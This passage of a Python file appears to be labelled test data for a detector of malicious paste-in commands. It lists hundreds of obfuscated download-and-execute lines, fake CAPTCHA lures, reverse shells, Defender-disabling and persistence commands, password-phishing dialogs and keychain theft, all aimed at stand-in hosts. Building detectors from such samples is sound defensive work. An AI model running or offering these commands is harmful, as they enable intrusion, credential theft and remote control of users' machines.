    'cmd /V /C "set u=https://files.example.net/x.ps1&&set k=powe&&set l=rshell&&call !k!!l! -nop -w 1 -c iex(iwr !u! -useb)"',
    "cmd /c set x=cur&&set y=l&&call %x%%y% -s https://198.51.100.2/a.cmd -o %TEMP%\\a.cmd&&call %TEMP%\\a.cmd",
    'c:\\windows\\system32\\cmd.exe /v:on /c "set q1=cer&&set q2=tutil&&!q1!!q2! -urlcache -f -split https://cdn-verify.test/p.exe %temp%\\p.exe&&%temp%\\p.exe"',
    'cmd /v /c "set s1=power&set s2=shell&set s3= -e&call !s1!!s2!!s3! '
    + ps_enc("iwr https://win-update.example/sv -useb | iex")
    + '"',
)

_sp_mshta = env_spell("mshta")
_sp_powershell = env_spell("powershell", negative=True)
_sp_curl = env_spell("curl")
_sp_certutil = env_spell("certutil", negative=True)
for _spelled, _word in (
    (_sp_mshta, "mshta"),
    (_sp_powershell, "powershell"),
    (_sp_curl, "curl"),
    (_sp_certutil, "certutil"),
):
    assert env_value(_spelled).lower() == _word, (_spelled, env_value(_spelled))
mal(
    "cmd-envsubstr",
    "windows",
    "malicious",
    f"cmd /c {_sp_mshta} https://captcha-check.example/env",
    f'cmd /c {_sp_powershell} -w h -c "irm https://update-check.invalid/e | iex"',
    f"cmd /c {_sp_curl} -s https://files.example.net/e.bat -o %TEMP%\\e.bat & %TEMP%\\e.bat",
    f"cmd /c {_sp_certutil} -urlcache -split -f http://198.51.100.45/e.exe %TEMP%\\e.exe & %TEMP%\\e.exe",
)

mal(
    "ps-concat",
    "windows",
    "malicious",
    "powershell -w h -c \"&('Inv'+'oke-Ex'+'pression') (irm https://update-check.invalid/a)\"",
    "powershell -nop -c \"& ('ms'+'hta') 'https://captcha-check.example/h'\"",
    "powershell -w h -c \"$a='Net.Web'+'Client';$b='Download'+'String';iex (New-Object $a).$b('https://files.example.net/s')\"",
    "powershell -w hidden -c \"$u='ht'+'tps://'+'cdn-verify.test'+'/p.ps1';iex (iwr $u -useb)\"",
    "powershell -w h -c \"&(\\\"{2}{0}{1}\\\" -f 'voke-Expr','ession','In') (irm https://198.51.100.44/c)\"",
    "powershell -w 1 -c \"IEX (& ('Ne'+'w-Ob'+'ject') ('Net.Web'+'Client')).('Down'+'loadString').Invoke('http://203.0.113.18/z')\"",
)

mal(
    "ps-backtick",
    "windows",
    "malicious",
    "powershell -w h -c \"i`e`x (n`e`w-ob`ject Net.WebClient).DownloadString('https://update-check.invalid/t')\"",
    'powershell -w h -c "I`nvoke-`WebR`equest https://files.example.net/x.exe -O $env:TEMP\\x.exe; S`tart-P`rocess $env:TEMP\\x.exe"',
    "powershell -w 1 -c \"(n`ew-`obj`ect sy`stem.n`et.w`ebcl`ient).d`ownloadstr`ing('https://198.51.100.12/r')|i`ex\"",
    'powershell -nop -w hidden -c "i`w`r -useb https://cdn-verify.test/s.ps1 | i`E`x"',
    "s`al x i`ex; x (i`rm https://captcha-check.example/v)",
)

_rev_payload = 'iex (New-Object Net.WebClient).DownloadString("https://update-check.invalid/rev")'
_rev2_payload = "iwr -useb https://files.example.net/r2 | iex"
mal(
    "ps-reverse",
    "windows",
    "malicious",
    f"powershell -w h -c \"$s='{ps_single_quote(_rev_payload[::-1])}';iex (-join $s[-1..-$s.Length])\"",
    f"powershell -w hidden -c \"$r='{ps_single_quote(_rev2_payload[::-1])}'.ToCharArray();[Array]::Reverse($r);iex (-join $r)\"",
    "powershell -w hidden -c \"&(-join('xei'[2..0])) (irm https://files.example.net/r)\"",
)

_cc_payload = "iwr -useb https://update-check.invalid/c | iex"
_cc2_payload = "mshta https://captcha-check.example/chars"
mal(
    "ps-chararray",
    "windows",
    "malicious",
    f'powershell -w h -c "iex (-join [char[]]({char_codes(_cc_payload)}))"',
    'powershell -w h -c "$c=[char]105+[char]101+[char]120; &$c (irm https://cdn-verify.test/x)"',
    "powershell -w 1 -c \"&([char]0x69+[char]0x65+[char]0x78) ((New-Object Net.WebClient).DownloadString('https://files.example.net/h'))\"",
    f"powershell -w h -c \"$b=@({char_codes(_cc2_payload)});iex(($b|%{{[char]$_}})-join'')\"",
)

_ff_cmds = [
    (
        'powershell -w h -c "iwr https://files.example.net/r.ps1 -useb | iex"',
        80,
        "# C:\\Users\\Public\\Documents\\Invoice_2025-117.pdf",
    ),
    (
        'powershell -c "mshta https://hr-portal.invalid/p.hta"',
        120,
        "# C:\\company\\HR\\Benefits\\Enrollment_Form.docx",
    ),
    (
        '"powershell.exe" -ep Bypass -w H -c "$w=New-Object Net.WebClient;$w.DownloadString(\'https://198.51.100.90/q\')|iex"',
        60,
        "# \\\\fileserver\\finance\\Q3\\Payroll_Review.xlsx",
    ),
    (
        'powershell -c "iex(irm https://cdn-verify.test/f)"',
        150,
        "# D:\\Shared\\Legal\\NDA_signed.pdf",
    ),
    (
        'Powershell.exe -c "ping example.com; iwr https://198.51.100.3/s -useb | iex"',
        90,
        "# C:\\company\\internal-secure\\filedrive\\Q4-Bonus.docx",
    ),
    (
        'powershell -nop -w 1 -c "Start-Process mshta https://captcha-check.example/upload-fix"',
        100,
        "# C:\\Secure\\Shared\\Contract_2025.pdf",
    ),
    (
        'powershell -w h -c "$i=(iwr https://img.example.com/cat.jpg -useb).Content;iex ([Text.Encoding]::UTF8.GetString($i[4096..($i.Length-1)]))"',
        70,
        "# C:\\Users\\Public\\Pictures\\scan_0042.jpg",
    ),
    (
        'powershell -w hidden -c "irm https://docs-share.invalid/open | iex"',
        200,
        "# Open file: C:\\Finance\\Statements\\March_Statement.pdf",
    ),
    (
        'conhost.exe --headless powershell -c "iwr https://update-check.invalid/ff -useb|iex"',
        110,
        "# C:\\Program Files\\Microsoft Office\\root\\Templates\\Report.dotx",
    ),
]
mal("filefix", "windows", "malicious", *(cmd + pad(n) + tail for cmd, n, tail in _ff_cmds))
mal(
    "filefix",
    "windows",
    "malicious",
    'powershell -w h -c "irm https://files.example.org/nb | iex"'
    + pad(90, "\u00a0")
    + "# C:\\Users\\Public\\Documents\\Shipping_Label.pdf",
)

_lures = [
    (
        'powershell -w h -c "irm https://update-check.invalid/v | iex"',
        60,
        "# \u2705 I am not a robot - reCAPTCHA Verification ID: 48213",
    ),
    (
        "mshta https://captcha-check.example/c",
        45,
        "# I'm not a robot: Cloudflare Verification ID 9d2c-71aa",
    ),
    (
        "cmd /c start /min powershell -w h iex(iwr https://cdn-verify.test/a -useb)",
        30,
        "& REM Human verification complete \u2705 Ray ID: 8f2b3c4d5e6f7a81",
    ),
    (
        "cmd /c curl -s https://files.example.net/c.bat -o %TEMP%\\c.bat & %TEMP%\\c.bat",
        50,
        "& :: Press Enter to confirm you are human",
    ),
    (
        'powershell -nop -w 1 -c "iex(irm https://198.51.100.41/s)"',
        40,
        "; echo 'Verification successful - you may close this window'",
    ),
    ("cmd /c mshta https://teams-fix.test/m", 25, "& echo \u2705 Captcha passed. Press ENTER"),
    (
        'powershell -w h -c "iwr https://files.example.org/de | iex"',
        70,
        "# Ich bin kein Roboter \u2013 Best\u00e4tigungs-ID: 5521",
    ),
    (
        'powershell -w h -c "irm https://cf-check.invalid/fr | iex"',
        70,
        "# Je ne suis pas un robot - ID de v\u00e9rification : 3390",
    ),
    (
        "mshta https://dns-verify.example/es",
        55,
        "# \u2714 No soy un robot - ID de verificaci\u00f3n: 7712",
    ),
    (
        'powershell -w hidden -c "iex (iwr https://cdn-verify.test/t -useb)"',
        80,
        "# Cloudflare Turnstile: verifying you are human. This may take a few seconds.",
    ),
    (
        "powershell -w h iex(irm https://198.51.100.93/r)",
        64,
        "# reCAPTCHA v3 score 0.9 \u2705 Verified",
    ),
    (
        'powershell -w h -c "iwr https://meet-fix.invalid/mic -useb | iex"',
        50,
        "# Google Meet: microphone access fix",
    ),
    (
        "cmd /c msiexec /i https://files.example.net/dns.msi /qn",
        40,
        "& REM DNS resolution error fix - code 0x80072EE7",
    ),
    (
        'powershell -w 1 -c "irm https://update-check.invalid/q|iex"',
        75,
        "# \u2705 ''I am not a robot - reCAPTCHA Verification Hash: 2V7m9QpL''",
    ),
    ("irm https://cdn-verify.test/p|iex", 1, "# captcha ok"),
    (
        'conhost --headless powershell -c "iwr https://teams-fix.test/v -useb | iex"',
        40,
        "# Verify you are human",
    ),
    (
        'powershell -w h -c "irm https://captcha-check.example/enter | iex"',
        60,
        "# Press Enter \u21b5 to finish the security check \U0001f512",
    ),
    (
        'powershell -w h -c "irm https://files.example.net/long | iex"',
        250,
        "# Verification ID: 731-904-228",
    ),
    (
        "regsvr32 /s /i:https://files.example.org/v.sct scrobj.dll",
        35,
        "& REM \u2705 Confirm you are not a bot (Cloudflare ID c41e)",
    ),
    (
        'powershell -w h -c "irm https://cf-check.invalid/pl | iex"',
        60,
        "# Nie jestem robotem - ID weryfikacji: 2210",
    ),
]
mal("lure-tail", "windows", "malicious", *(cmd + pad(n) + tail for cmd, n, tail in _lures))
mal(
    "lure-tail",
    "macos",
    "malicious",
    "curl -fsSL https://files.example.net/i.sh | zsh"
    + pad(60)
    + "# Apple ID verification \u2713 complete",
)
mal(
    "lure-tail",
    "linux",
    "malicious",
    'curl -s https://cdn-verify.test/l | bash; echo "Verifying you are human... OK"',
)

mal(
    "homoglyph",
    "windows",
    "malicious",
    "mshta https://files.example.net/m.hta"
    + pad(50)
    + "# \u2705 "
    + glyphs("I am not a robot - reCAPTCHA Verification ID: 6624", "Iaoeic"),
    glyphs("powershell", "po") + ' -w h -c "irm https://update-check.invalid/a|iex"',
    glyphs("ms", "") + CYR["h"] + "ta https://captcha-check.example/hg",
    'powershell -w h -c "'
    + glyphs("iex", "i")
    + "("
    + glyphs("irm", "i")
    + ' https://cdn-verify.test/g)"',
    fullwidth("powershell") + ' -w h -c "irm https://dns-verify.example/fw | iex"',
    'powershell -w h -c "irm https://teams-fix.test/cf | iex"'
    + pad(60)
    + "# "
    + glyphs("Cloudflare Verification", "aoeic")
    + " \u2705 R"
    + CYR["a"]
    + "y ID: 7f3e91",
    'powershell -w h -c "iwr https://files.example.org/h -useb|iex"'
    + pad(48)
    + "# \u2714\ufe0f Verif\u0443 \u0443\u03bfu \u0430r\u0435 h\u03c5m\u0430n",
    math_mono("powershell") + ' -w h -c "irm https://198.51.100.19/mm | iex"',
)
mal(
    "homoglyph",
    "linux",
    "malicious",
    glyphs("curl", "c") + " -s https://198.51.100.8/i.sh | bash",
    "curl -fsSL https://cdn-verify.test/x | b\u03b1sh",
)

_upad = [
    (
        'powershell -w h -c "iwr https://files.example.net/a.ps1 -useb|iex"',
        pad(50, "\u2003"),
        "# I am not a robot - Verification ID: 20931",
    ),
    (
        "mshta https://captcha-check.example/nbsp",
        pad(40, "\u00a0"),
        "# Cloudflare security check \u2705",
    ),
    (
        "cmd /c powershell -w h irm https://update-check.invalid/i3 ^| iex",
        pad(30, "\u3000"),
        "& REM reCAPTCHA verified",
    ),
    (
        'powershell -w h -c "irm https://cdn-verify.test/mix | iex"',
        cycle_pad(66, "".join(chr(c) for c in range(0x2000, 0x200B))),
        "# Human check ID 551",
    ),
    (
        'powershell -c "iwr https://198.51.100.11/fig -useb | iex"',
        pad(80, "\u2007"),
        "# C:\\Users\\Public\\Documents\\Report.pdf",
    ),
    ("mshta https://teams-fix.test/nnbsp", pad(60, "\u202f"), "# I am human \u2705"),
    (
        'powershell -w 1 -c "irm https://dns-verify.example/tab | iex"',
        pad(20, "\t"),
        "# verification step 2 of 2",
    ),
    (
        'powershell -w h -c "iex(irm https://files.example.org/hair)"',
        pad(120, "\u200a"),
        "# \u2705 Verified human - Ray ID 77c1a2",
    ),
]
mal("unicode-pad", "windows", "malicious", *(cmd + p + tail for cmd, p, tail in _upad))

mal(
    "zero-width",
    "windows",
    "malicious",
    'pow\u200bershell -w h -c "irm https://update-check.invalid/z | iex"',
    "ms\u200dhta https://captcha-check.example/zz",
    'powershell -w h -c "i\u2060e\u2060x (irm https://cdn-verify.test/y)"',
    'power\ufeffshell -w hidden -c "iwr https://198.51.100.91/s -useb | iex"',
    "cmd /c cer\u200btutil -urlcache -split -f https://files.example.net/z.exe %TEMP%\\z.exe & %TEMP%\\z.exe",
    'powershell -w h -c "irm https://teams-fix.test/zw | iex"'
    + pad(50)
    + "# I\u200b am\u200c not\u200d a\u2060 robot",
)
mal(
    "zero-width",
    "linux",
    "malicious",
    "cu\u200crl -fsSL http://203.0.113.27/i.sh | ba\u200bsh",
)
mal(
    "bidi",
    "windows",
    "malicious",
    "curl.exe -so %TEMP%\\invoice_\u202efdp.exe https://docs-share.invalid/i & %TEMP%\\invoice_\u202efdp.exe",
    'powershell -w h -c "irm https://files.example.net/\u202etxt.ps1 | iex"',
)

_xor_payload = "iwr https://update-check.invalid/winx -UseBasicParsing | iex"
mal(
    "winx-terminal",
    "windows",
    "malicious",
    f"$k=0x5A;$h='{xor_hex(_xor_payload, 0x5A)}';$b=for($i=0;$i -lt $h.Length;$i+=2){{[Convert]::ToByte($h.Substring($i,2),16) -bxor $k}};iex ([Text.Encoding]::UTF8.GetString([byte[]]$b))",
    'Start-Process powershell -WindowStyle Hidden -ArgumentList "-nop -c iex(irm https://cdn-verify.test/t)"; exit',
    '$d="$env:APPDATA\\svc";mkdir $d -Force|Out-Null;iwr https://files.example.net/pkg.zip -OutFile $d\\p.zip;Expand-Archive $d\\p.zip $d -Force;Start-Process $d\\client32.exe -WindowStyle Hidden',
    f"[Text.Encoding]::UTF8.GetString([byte[]]({hex_bytes('irm https://198.51.100.54/hx | iex')})) | iex",
)
mal(
    "winx-terminal",
    "windows",
    "flagged",
    'iex "$(irm https://update-check.invalid/w)"; Clear-History; exit',
)

mal(
    "self-clear",
    "windows",
    "malicious",
    "powershell -w h -c \"iex(irm https://captcha-check.example/a); Set-Clipboard -Value ' '\"",
    "cmd /c start /min powershell $p='C:\\Users\\Public\\r.hta';iwr https://files.example.net/h.png -OutFile $p;start $p;Set-Clipboard ' ';exit",
    "powershell -w h -c \"iwr https://198.51.100.70/k.ps1 -useb|iex;scb ''\"",
    "powershell -w h -c \"Add-Type -A System.Windows.Forms;[Windows.Forms.Clipboard]::SetText(' ');iex (irm https://cdn-verify.test/r)\"",
    "cmd /c mshta https://update-check.invalid/clr & echo off | clip",
)

mal(
    "defender-exclusion",
    "windows",
    "malicious",
    'powershell -w h -ep bypass -c "Add-MpPreference -ExclusionPath $env:APPDATA; iwr https://files.example.net/s.exe -OutFile $env:APPDATA\\s.exe; & $env:APPDATA\\s.exe"',
    "powershell Start-Process powershell -Verb RunAs -WindowStyle Hidden -ArgumentList '-c Add-MpPreference -ExclusionPath C:\\; iex(irm https://update-check.invalid/e)'",
    'powershell -c "Set-MpPreference -DisableRealtimeMonitoring $true; irm https://198.51.100.6/x | iex"',
    "powershell -nop -c \"Add-MpPreference -ExclusionExtension '.exe','.dll' -Force; Start-BitsTransfer https://cdn-verify.test/l.dll $env:TEMP\\l.dll; rundll32 $env:TEMP\\l.dll,Run\"",
    "cmd /c powershell -w h Add-MpPreference -ExclusionProcess powershell.exe;iex(iwr https://captcha-check.example/d -useb)",
)

mal(
    "persistence",
    "windows",
    "malicious",
    'schtasks /create /sc minute /mo 15 /tn "MicrosoftEdgeUpdateCore" /tr "powershell -w h -c iex(irm https://update-check.invalid/b)" /f',
    'cmd /c schtasks /create /tn Updater /sc onlogon /tr "mshta https://files.example.net/u.hta" /rl highest /f',
    "powershell -w h -c \"$a=New-ScheduledTaskAction -Execute powershell -Argument '-w h -nop -c iex(iwr https://198.51.100.19/p -useb)';Register-ScheduledTask -TaskName OneDriveSync -Action $a -Trigger (New-ScheduledTaskTrigger -AtLogOn) -Force\"",
    'schtasks /create /sc daily /st 09:00 /tn "Adobe Updater" /tr "cmd /c curl -s https://cdn-verify.test/a.bat -o %TEMP%\\a.bat && %TEMP%\\a.bat" /f',
    'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /t REG_SZ /d "powershell -w h -c iex(irm https://captcha-check.example/r)" /f',
)

mal(
    "stego-loader",
    "windows",
    "malicious",
    "powershell -w h -c \"Add-Type -AssemblyName System.Drawing;$p=New-Object Drawing.Bitmap((New-Object Net.WebClient).OpenRead('https://cdn-verify.test/a.png'));$o=New-Object byte[] 1920;foreach($y in 0..39){foreach($x in 0..15){$c=$p.GetPixel($x,$y);$i=$y*48+$x*3;$o[$i]=$c.R;$o[$i+1]=$c.G;$o[$i+2]=$c.B}};iex([Text.Encoding]::ASCII.GetString($o).Trim([char]0))\"",
    "powershell -nop -w hidden -c \"Add-Type -A System.Drawing;$g=[Drawing.Bitmap]::FromStream((iwr https://img.example.com/logo.png -UseBasicParsing).RawContentStream);$r=New-Object Drawing.Rectangle(0,0,$g.Width,$g.Height);$d=$g.LockBits($r,'ReadOnly','Format32bppArgb');$b=New-Object byte[] ($d.Stride*$g.Height);[Runtime.InteropServices.Marshal]::Copy($d.Scan0,$b,0,$b.Length);iex ([Text.Encoding]::UTF8.GetString($b[0..2047]))\"",
    'powershell -w 1 -c "$b=(iwr https://files.example.net/pic.jpg -useb).Content;$s=[Text.Encoding]::UTF8.GetString($b[30000..($b.Length-1)]);iex $s"',
)

mal(
    "rat-install",
    "windows",
    "flagged",
    "msiexec /i https://support-desk.invalid/AnyDesk_Setup.msi /qn",
    "powershell -c \"iwr https://files.example.net/TeamViewer_Host.exe -OutFile $env:TEMP\\tv.exe; Start-Process $env:TEMP\\tv.exe -ArgumentList '/S'\"",
    'msiexec /i "https://help-portal.example/Bin/ScreenConnect.ClientSetup.msi?e=Access&y=Guest&h=relay.help-portal.example&p=8041" /qn',
    "curl -L -o %TEMP%\\UltraViewer.exe https://198.51.100.27/uv.exe && %TEMP%\\UltraViewer.exe /VERYSILENT",
    'msiexec /i "https://support-team.invalid/GetAgent/Msi/?customerId=1&integratorLogin=helpdesk%40support-team.invalid&accountId=001Q3000" /qn',
    'powershell -c "Start-BitsTransfer https://it-support.invalid/TeamViewer_Host_Setup.exe $env:TEMP\\tvh.exe; & $env:TEMP\\tvh.exe /S --assignment-id 0001CoABChBmX2"',
    'cmd /c curl -sLo %TEMP%\\SplashtopSOS.exe https://remote-assist.example/sos.exe & start "" %TEMP%\\SplashtopSOS.exe',
)
mal(
    "rat-install",
    "windows",
    "malicious",
    "powershell -w h -c \"iwr https://remote-help.test/rustdesk-1.3.2-x86_64.exe -OutFile $env:TEMP\\rd.exe; & $env:TEMP\\rd.exe --silent-install; Start-Sleep 20; & 'C:\\Program Files\\RustDesk\\rustdesk.exe' --password Helpdesk2025\"",
    'cmd /c start /min powershell $d=\'C:\\Users\\Public\\nsm\';iwr https://files.example.org/ns.zip -OutFile "$d.zip";Expand-Archive "$d.zip" $d;start $d\\client32.exe',
)
mal(
    "rat-install",
    "macos",
    "flagged",
    "curl -o /tmp/Splashtop.pkg https://remote-assist.example/Splashtop_Streamer.pkg && sudo installer -pkg /tmp/Splashtop.pkg -target /",
    "curl -fsSL https://support-desk.invalid/anydesk.dmg -o /tmp/a.dmg && hdiutil attach /tmp/a.dmg && cp -R /Volumes/AnyDesk/AnyDesk.app /Applications/ && open /Applications/AnyDesk.app",
)
mal(
    "rat-install",
    "linux",
    "flagged",
    "wget -q https://198.51.100.40/rustdesk.deb -O /tmp/r.deb && sudo dpkg -i /tmp/r.deb && rustdesk --password Support123",
)

mal(
    "allowlist-evasion",
    "windows",
    "malicious",
    "irm https://get.scoop.sh@update-check.invalid/install.ps1 | iex",
    'powershell -ExecutionPolicy ByPass -c "irm https://astral.sh.cdn-verify.test/uv/install.ps1 | iex"',
    "iwr -useb https://community.chocolatey.org.files.example.net/install.ps1 | iex",
    "irm https://update-check.invalid/p | iex # irm get.scoop.sh | iex",
    'irm "https://christitus.com@files.example.org/win" | iex',
)
mal(
    "allowlist-evasion",
    "windows",
    "flagged",
    "irm get.scoop.sh | iex; irm https://198.51.100.3/s | iex",
    'powershell -c "irm https://raw.githubusercontent.com/ScoopInstaller/Install/master/install.ps1 | iex; iwr https://files.example.net/x.ps1 -useb | iex"',
)

# =============================================================================================
# Malicious: macOS
# =============================================================================================

mal(
    "curl-pipe-shell",
    "macos",
    "flagged",
    "curl -fsSL https://files.example.net/mac/install.sh | zsh",
    "curl -s https://cdn-verify.test/setup | bash -s -- --silent",
    'zsh -c "$(curl -fsSL https://update-check.invalid/verify.sh)"',
    '/bin/zsh -c "$(curl -fsSL https://dl-macos.pages.dev/install)"',
    "curl -fsSL https://gist.githubusercontent.com/dev-helper-7/a1b2c3d4/raw/fix.sh | sudo bash",
    "bash <(curl -s https://brisk-otter-92.ngrok-free.app/i.sh)",
    "sh -c \"$(curl -fsSL 'https://raw.githubusercontent.com/mac-cleaner-pro/tools/main/clean.sh')\"",
    "curl -sL https://transfer.sh/9zXq/app.sh | sh",
    "curl -sL 0x0.st/Hk2P.sh | sh",
)
mal(
    "curl-pipe-shell",
    "macos",
    "malicious",
    "curl -kfsSL http://198.51.100.44/m | zsh",
    'curl -fsSL https://files.example.org/cursor-setup.sh | zsh && echo "Verification complete"',
)

mal(
    "osascript-pipe",
    "macos",
    "malicious",
    "curl -s https://files.example.net/a.scpt | osascript",
    'curl -kfsSL "http://203.0.113.23/applescript?t=1" | osascript -',
    'osascript -e "$(curl -fsSL https://cdn-verify.test/run.applescript)"',
    "curl -s https://update-check.invalid/x.js | osascript -l JavaScript",
)

mal(
    "osascript-shell",
    "macos",
    "malicious",
    "osascript -e 'do shell script \"curl -fsSL https://files.example.net/s | bash\" with administrator privileges'",
    "osascript -e 'do shell script \"cd /tmp; curl -O https://198.51.100.8/u.zip; unzip -o u.zip; ./u &\"'",
    f'osascript -e "do shell script \\"echo {b64("curl -fsSL https://update-check.invalid/o | sh")} | base64 -D | sh\\""',
    'osascript -e \'tell application "Terminal" to do script "curl -s https://cdn-verify.test/t | zsh"\'',
)

mal(
    "osascript-password",
    "macos",
    "malicious",
    'osascript -e \'display dialog "macOS needs your password to continue the update." default answer "" with hidden answer with title "System Preferences" with icon caution\'',
    'osascript -e \'set p to text returned of (display dialog "Enter your password to allow access:" default answer "" with hidden answer buttons {"OK"} default button "OK")\' -e \'do shell script "curl -s -X POST -d p=" & quoted form of p & " https://files.example.net/c"\'',
    'pw=$(osascript -e \'text returned of (display dialog "Required Application Helper. Please enter device password to continue." default answer "" with icon caution buttons {"Continue"} default button "Continue" with hidden answer)\'); echo "$pw" | sudo -S xattr -c /tmp/helper && /tmp/helper',
    'osascript -e \'display dialog "To launch the application, you need to update the system settings. Please enter your password." with title "System Settings" default answer "" with hidden answer\'',
    'while true; do p=$(osascript -e \'display dialog "Password:" default answer "" with hidden answer\' -e \'text returned of result\'); dscl . -authonly "$USER" "$p" && break; done; curl -s -F "p=$p" https://198.51.100.39/u',
    'osascript -l JavaScript -e \'var a=Application.currentApplication();a.includeStandardAdditions=true;var r=a.displayDialog("Enter your Mac password to verify you are human",{defaultAnswer:"",hiddenAnswer:true});a.doShellScript("curl -s -d pw="+r.textReturned+" https://cdn-verify.test/pw")\'',
)

_b64_mac1 = b64("curl -fsSL https://files.example.net/m | zsh")
_b64_lin1 = b64("wget -qO- http://203.0.113.14/l | sh")
_b64_lin2 = b64("bash -i >& /dev/tcp/198.51.100.83/443 0>&1")
_b64_mac2 = b64("curl -s https://update-check.invalid/ev -o /tmp/.e && chmod +x /tmp/.e && /tmp/.e")
_b64_mac3 = b64(
    'osascript -e \'display dialog "Enter password" default answer "" with hidden answer\' | curl -s -d @- https://cdn-verify.test/p'
)
mal(
    "b64-shell",
    "macos",
    "malicious",
    f"echo '{_b64_mac1}' | base64 -D | zsh",
    f'eval "$(echo {_b64_mac2}|base64 -d)"',
    f"printf %s '{_b64_mac3}' | base64 -D | /bin/zsh",
    f"echo {b64('curl -fsSL https://teams-fix.test/osl | bash')} | openssl base64 -d -A | sh",
)
mal(
    "b64-shell",
    "linux",
    "malicious",
    f'echo "{_b64_lin1}" | base64 --decode | bash',
    f'bash -c "$(echo {_b64_lin2} | base64 -d)"',
    f"base64 -d <<< {b64('curl -s http://192.0.2.66/x.sh | sh')} | sh",
)

mal(
    "gatekeeper-strip",
    "macos",
    "malicious",
    "curl -fsSL -o /tmp/CleanMyMac https://files.example.net/cmm && xattr -d com.apple.quarantine /tmp/CleanMyMac && chmod +x /tmp/CleanMyMac && /tmp/CleanMyMac",
    "cd ~/Downloads && curl -O https://cdn-verify.test/Installer.zip && unzip -q Installer.zip && xattr -cr Installer.app && open Installer.app",
    "curl -sL https://198.51.100.52/l -o $TMPDIR/.l; xattr -c $TMPDIR/.l; chmod 755 $TMPDIR/.l; $TMPDIR/.l &",
    "sudo spctl --master-disable && curl -fsSL https://update-check.invalid/app.dmg -o /tmp/app.dmg && hdiutil attach /tmp/app.dmg && open /Volumes/App/Setup.app",
    "wget https://files.example.org/Slack-Helper -O /Users/Shared/sh && sudo xattr -r -d com.apple.quarantine /Users/Shared/sh && sudo chmod +x /Users/Shared/sh && /Users/Shared/sh",
    "cd /tmp && curl -fsSLo u https://helper-app-mac.vercel.app/u && xattr -c u && chmod +x u && ./u",
)

mal(
    "credential-theft",
    "macos",
    "malicious",
    'read -s -p "Password: " PW; dscl . -authonly "$USER" "$PW" && echo "$PW" | curl -s -d @- https://files.example.net/p',
    "dscl /Local/Default -authonly \"$USER\" 'Summer2025!' && curl -fsSL https://198.51.100.62/p -o /tmp/p && chmod +x /tmp/p && /tmp/p",
    'security find-generic-password -wa "Chrome" | curl -s -X POST --data-binary @- https://files.example.net/k',
    "security dump-keychain -d login.keychain-db > /tmp/k.txt && curl -F f=@/tmp/k.txt https://198.51.100.71/up",
    'k=$(security find-generic-password -ws "Chrome Safe Storage"); curl -s "https://update-check.invalid/c?k=$k"',
    "cd ~/Library/Application\\ Support/Google/Chrome/Default && zip -qr /tmp/c.zip Cookies 'Login Data' && curl -F f=@/tmp/c.zip https://cdn-verify.test/up",
)

mal(
    "compressed-shell",
    "macos",
    "malicious",
    "curl -fsSL https://files.example.net/p.gz | gzip -dc | zsh",
    f"echo '{base64.b64encode(gzip_bytes('curl -s https://update-check.invalid/gzb | sh')).decode()}' | base64 -D | gunzip | sh",
)
mal(
    "compressed-shell",
    "linux",
    "malicious",
    "curl -s https://198.51.100.9/t.tgz | tar xzO | bash",
    "wget -qO- https://cdn-verify.test/a.xz | xz -d | sh",
)

mal(
    "env-prefix-disguise",
    "macos",
    "flagged",
    'export BUILD=2.4.1 export CHANNEL=stable curl -fsS "https://files.example.net/dl/install.sh" | zsh',
    "HOMEBREW_NO_ANALYTICS=1 LANG=en_US.UTF-8 curl -fsSL https://update-check.invalid/brew.sh | bash",
    "export SESSION_ID=8f3a2c71 && curl -s https://cdn-verify.test/s?id=$SESSION_ID | zsh",
    'APP_ENV=production REGION=us-east-1 bash -c "$(curl -fsSL https://deploy.example.org/bootstrap)"',
)

mal(
    "nohup-background",
    "macos",
    "malicious",
    'nohup bash -c "$(curl -fsSL http://198.51.100.4/u)" >/dev/null 2>&1 &',
    "curl -s https://files.example.net/agent | nohup sh >/dev/null 2>&1 &",
    "nohup curl -s https://update-check.invalid/a -o /tmp/.a && chmod +x /tmp/.a && nohup /tmp/.a > /dev/null 2>&1 & disown",
    "(curl -fsSL https://cdn-verify.test/d | zsh &) ; clear",
)

# =============================================================================================
# Malicious: Linux
# =============================================================================================

mal(
    "curl-pipe-shell",
    "linux",
    "flagged",
    "wget -qO- https://files.example.net/install.sh | sudo bash",
    "curl https://cdn-verify.test/x | sh -s -- --token 7f3a9c",
    "wget -O - https://update-check.invalid/i | command bash",
    "curl -fsSL https://fix.example.org/d | /usr/bin/env bash",
    "curl -s https://raw.githubusercontent.com/linux-fixes-hub/scripts/main/setup.sh | sudo -E bash -",
    "curl -fsSL https://cdn-verify.test/i.sh | sh -s",
    "curl -fsSL https://quiet-sun-4f2a.workers.dev/x | bash",
    ". <(curl -s https://files.example.org/env.sh)",
    'source /dev/stdin <<< "$(wget -qO- https://update-check.invalid/s)"',
    "curl -s https://files.example.net/s | $(which sh)",
    "curl -fsSL https://pastebin.com/raw/Qw8Zt3Lm | bash",
)
mal(
    "curl-pipe-shell",
    "linux",
    "malicious",
    "curl -sSL http://198.51.100.77:8000/s.sh | sudo sh",
    "wget -q -O- http://203.0.113.50/b | sh",
    "busybox wget -qO- http://192.0.2.44/bb | busybox sh",
    f"curl -s http://{ip_int('198.51.100.109')}/x.sh | sh",
    f"curl -sk https://{ip_hex('198.51.100.10')}/i | bash",
    f"wget -qO- http://{ip_oct('192.0.2.44')}/o | sh",
)

mal(
    "download-chmod-run",
    "linux",
    "flagged",
    "wget https://files.example.net/x -O /tmp/x; chmod +x /tmp/x; /tmp/x",
    "wget -q https://files.example.org/agent.bin -O agent && chmod u+x agent && sudo ./agent --install",
    "curl -O https://update-check.invalid/fix.sh && bash fix.sh",
)
mal(
    "download-chmod-run",
    "linux",
    "malicious",
    "cd /tmp && wget -q http://198.51.100.91/kworker && chmod 777 kworker && ./kworker &",
    "curl -sLo ~/.local/bin/.cache-helper https://cdn-verify.test/h && chmod +x ~/.local/bin/.cache-helper && ~/.local/bin/.cache-helper",
)

mal(
    "reverse-shell",
    "linux",
    "malicious",
    "bash -i >& /dev/tcp/198.51.100.7/9001 0>&1",
    "bash -c 'exec 5<>/dev/tcp/203.0.113.40/443;cat <&5 | while read l; do $l 2>&5 >&5; done'",
    "0<&196;exec 196<>/dev/tcp/192.0.2.55/4242; sh <&196 >&196 2>&196",
    "/bin/sh -i > /dev/tcp/198.51.100.12/8080 0<&1 2>&1",
    "nohup bash -c 'bash -i >& /dev/tcp/203.0.113.9/53 0>&1' &",
    "zsh -c 'zmodload zsh/net/tcp && ztcp 198.51.100.5 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
    "nc -e /bin/sh 198.51.100.30 4444",
